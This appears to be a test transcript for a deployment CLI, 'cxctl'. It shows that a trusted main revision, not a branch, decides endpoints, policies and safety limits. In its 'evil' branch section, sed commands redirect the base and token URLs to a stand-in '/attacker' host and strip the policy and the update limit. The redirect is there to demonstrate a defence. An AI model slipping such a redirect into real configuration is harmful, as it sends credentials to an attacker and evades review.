# A branch decides what is defined. Where that is sent, and what is allowed, the trusted revision decides.

-- project audiences
  safety: {max_update_percent: 40, min_resources: 2}
-- file audiences/all.yaml
  apiVersion: cxctl/v1
  kind: Audience
  metadata: {name: gold, id: 9c3e7a10-2b64-4f7d-8e21-c4d5b6a79880, protect: true}
  spec:
    name: Gold
    data_source: crm_sync
    criteria: {operator: AND, conditions: [{field: tier, operator: equals, value: gold}]}
  ---
  apiVersion: cxctl/v1
  kind: Audience
  metadata: {name: silver, id: 4e8b1d52-7f30-4a9c-b6d1-0a2f3c5e7d91}
  spec:
    name: Silver
    data_source: crm_sync
    criteria: {operator: AND, conditions: [{field: tier, operator: equals, value: silver}]}
-- file policies/sources.yaml
  apiVersion: cxctl/v1
  kind: Policy
  metadata: {name: sources}
  spec:
    match: {kind: Audience}
    message: audiences come from the CRM
    schema: {properties: {spec: {properties: {data_source: {const: crm_sync}}}}}
-- commit two audiences
$ cxctl apply --yes > /dev/null
-- requests
  GET /api/v1/audiences?include=size,evaluation_status&limit=1000 200
  PUT /api/v1/audiences/9c3e7a10-2b64-4f7d-8e21-c4d5b6a79880 201
  PUT /api/v1/audiences/4e8b1d52-7f30-4a9c-b6d1-0a2f3c5e7d91 201
  GET /api/v1/audiences/9c3e7a10-2b64-4f7d-8e21-c4d5b6a79880?include=size,evaluation_status 200
  GET /api/v1/audiences/4e8b1d52-7f30-4a9c-b6d1-0a2f3c5e7d91?include=size,evaluation_status 200

# The branch sends credentials and requests elsewhere, drops the policy and the limit, and then does what
# these forbade.
$ git switch -q -c evil
$ sed -i -e 's|base_url: .*|base_url: {URL}/attacker|' -e 's|token_url: .*|token_url: {URL}/attacker/token|' -e 's/max_update_percent: 40/max_update_percent: 100/' cxctl.yaml
$ grep "attacker\|percent" cxctl.yaml
      base_url: {URL}/attacker
        token_url: {URL}/attacker/token
  safety: {max_update_percent: 100, min_resources: 2}
$ git rm -q -r policies
$ sed -i 's/crm_sync/customer_360/' audiences/all.yaml
-- commit innocent change

# Believed, it has its way: the attacker gets the credentials.
$ cxctl plan --quiet
  [stderr]
  error: no access token from {URL}/attacker/token: 404 not found: not_found: there is nothing at this path (correlation id {UUID}) [tenant.auth]
  [exit 1]
-- requests token
  POST /attacker/token 404

# Not believed: the policy of main refuses it, and nothing is sent at all.
$ cxctl plan --project-rev main
  [stderr]
  audiences/all.yaml:6:16: error: Audience/gold breaks the policy sources: audiences come from the CRM [policy.refused]
      6 |   data_source: customer_360
        |                ^^^^^^^^^^^^
  policies/sources.yaml:3:18: note: the policy
      3 | metadata: {name: sources}
        |                  ^^^^^^^
    note: data_source must be "crm_sync", not "customer_360"
  audiences/all.yaml:14:16: error: Audience/silver breaks the policy sources: audiences come from the CRM [policy.refused]
     14 |   data_source: customer_360
        |                ^^^^^^^^^^^^
  policies/sources.yaml:3:18: note: the policy
      3 | metadata: {name: sources}
        |                  ^^^^^^^
    note: data_source must be "crm_sync", not "customer_360"
  note: cxctl.yaml, policies/sources.yaml differ from main, which is what counts [project.rev]
    hint: the change takes effect once it is in main
  2 errors
  [exit 4]
-- requests token

# Without what the policy forbids it is planned, against the tenant of main, with the limit of main.
$ sed -i -e 's/customer_360/crm_sync/' -e 's/name: Gold/name: Golden/' -e 's/name: Silver/name: Silvern/' audiences/all.yaml
-- commit golden
$ cxctl plan --project-rev main --base main --out plan.json
  Tenant prod at {URL}, commit {COMMIT} (1 request)

  Caused by this revision:
    ~ Audience/gold
        audiences/all.yaml:5, commit {COMMIT} of Ana Ops
        ~ /name  "Gold" -> "Golden"
    ~ Audience/silver
        audiences/all.yaml:13, commit {COMMIT} of Ana Ops
        ~ /name  "Silver" -> "Silvern"

  Plan: 0 to create, 2 to update, 0 to delete, 0 unchanged

  apply would refuse this plan:
    2 of 2 resources would be updated, more than 40 % [safety.update_percent]
      hint: if that is meant, raise safety.max_update_percent in cxctl.yaml
  [stderr]
  note: cxctl.yaml, policies/sources.yaml differ from main, which is what counts [project.rev]
    hint: the change takes effect once it is in main
-- requests ordered token
  POST /oauth/token 200
  GET /api/v1/audiences?include=size,evaluation_status&limit=1000 200
$ jq -c '[.project.rev, .project.differ]' plan.json
  ["main",["cxctl.yaml","policies/sources.yaml"]]

# A comment says it to reviewers.
$ cxctl plan --project-rev main --quiet -o markdown | grep -A1 IMPORTANT
  > [!IMPORTANT]
  > `cxctl.yaml`, `policies/sources.yaml` differ from `main`, which is what counts here: the change takes effect once it is merged.


# So do all that read the project.
$ cxctl apply --project-rev main --yes --quiet
  [stderr]
  error: 2 of 2 resources would be updated, more than 40 % [safety.update_percent]
  [exit 4]
-- writes
$ cxctl validate --project-rev main
  2 definitions in 1 file: valid
  [stderr]
  note: cxctl.yaml, policies/sources.yaml differ from main, which is what counts [project.rev]
    hint: the change takes effect once it is in main
$ cxctl drift --project-rev main --quiet
  No drift: prod holds what was applied (2 resources checked)
-- requests token
  POST /oauth/token 200
  GET /api/v1/audiences?include=size,evaluation_status&limit=1000 200
$ cxctl render Audience/gold --project-rev main --quiet | head -3
  # audiences/all.yaml:1, for prod
  apiVersion: cxctl/v1
  kind: Audience
$ cxctl plan --project-rev nowhere
  [stderr]
  error: nowhere names no commit in this repository [git.rev]
    hint: see what there is with: git log --all --oneline
  [exit 1]

# A branch that removes the project's file changes nothing, either.
$ git rm -q cxctl.yaml && git commit -qm "no project"
$ cxctl plan --project-rev main --quiet
  Tenant prod at {URL}, commit {COMMIT} (1 request)

    ~ Audience/gold
        ~ /name  "Gold" -> "Golden"
    ~ Audience/silver
        ~ /name  "Silver" -> "Silvern"

  Plan: 0 to create, 2 to update, 0 to delete, 0 unchanged

  apply would refuse this plan:
    2 of 2 resources would be updated, more than 40 % [safety.update_percent]
      hint: if that is meant, raise safety.max_update_percent in cxctl.yaml

# Nor may an address stand in a file that a branch could change.
$ git switch -q main && echo "{URL}" > url.txt && sed -i 's|base_url: .*|base_url: {file: url.txt}|' cxctl.yaml
-- commit an address in a file
$ cxctl plan --project-rev main
  [stderr]
  cxctl.yaml:7:15: error: base_url comes from url.txt, which is in git: a branch could change it [project.file]
      7 |     base_url: {file: url.txt}
        |               ^^^^^^^^^^^^^^^
    hint: with --project-rev it must stand in cxctl.yaml, in the environment, or in a file that git does not track
  [exit 1]
